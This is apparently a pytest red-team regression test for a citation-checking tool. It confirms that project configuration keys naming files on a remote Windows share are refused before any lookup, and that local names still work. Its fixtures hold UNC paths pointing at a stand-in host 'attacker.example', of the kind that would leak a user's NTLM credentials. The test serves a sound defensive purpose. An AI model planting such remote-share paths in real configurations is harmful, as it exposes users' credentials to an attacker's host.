"""Red team rt38s: a project's configuration names no file on another machine.

The manuscript's own names for a share are refused unlooked-at
(tests/test_rt38s_network_names.py). A ``citeaudit.toml`` found above the manuscript
names files too -- ``bib``, ``paths``, ``baseline``, ``[network] cache-dir`` -- and an
editor running ``citeaudit check`` in a submitted project's folder uses it. On Windows
each ``//host/share/...`` there is looked up by connecting to that host with the user's
NTLM credentials (and SQLite would keep the link cache on that host's share). Each is
now a configuration error naming the key (exit 2) before any file is looked up.

rt38s-1.diff, applied as 1c3258e7 (src/citeaudit/config/load.py).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.in_process_cli import run_cli
from tests.test_rt38s_network_names import lookups  # noqa: F401 (a fixture: every look-up)

HOST = "attacker.example"
REFS = "@article{a, author={Okafor, N.}, title={A}, journal={J}, year={2018}}\n"
KEYS = {
    "bib": f'paths = ["paper.md"]\nbib = ["refs.bib", "//{HOST}/s/refs.bib"]\n',
    "paths": f'paths = ["paper.md", "\\\\\\\\{HOST}\\\\s\\\\chapter.md"]\n',
    "baseline": f'paths = ["paper.md"]\nbaseline = "//{HOST}/s/baseline.json"\n',
    "cache-dir": f'paths = ["paper.md"]\n[network]\ncache-dir = "//{HOST}/s/cache"\n',
}


@pytest.mark.parametrize("key", KEYS)
def test_a_share_the_configuration_names_is_refused_unlooked_at(
    key: str,
    tmp_path: Path,
    lookups: list[str],  # noqa: F811 (the imported fixture)
) -> None:
    (tmp_path / "citeaudit.toml").write_text(KEYS[key], encoding="utf-8")
    (tmp_path / "refs.bib").write_text(REFS, encoding="utf-8")
    (tmp_path / "paper.md").write_text("As shown [@a].\n", encoding="utf-8")
    ran = run_cli({}, "check", "--format", "json", "--offline", cwd=tmp_path)
    assert [n for n in lookups if HOST in n] == []
    assert ran.returncode == 2
    assert "names a file on another machine" in ran.stderr
    assert repr(key.split("-")[0]) in ran.stderr or key in ran.stderr


def test_the_configurations_own_names_are_still_used(tmp_path: Path) -> None:
    """The control: names of this machine in the configuration are read as before."""
    (tmp_path / "citeaudit.toml").write_text(
        'paths = ["paper.md"]\nbib = ["refs.bib"]\n', encoding="utf-8"
    )
    (tmp_path / "refs.bib").write_text(REFS, encoding="utf-8")
    (tmp_path / "paper.md").write_text("As shown [@a].\n", encoding="utf-8")
    ran = run_cli({}, "check", "--format", "json", "--offline", cwd=tmp_path)
    assert ran.returncode == 0, ran.stdout + ran.stderr
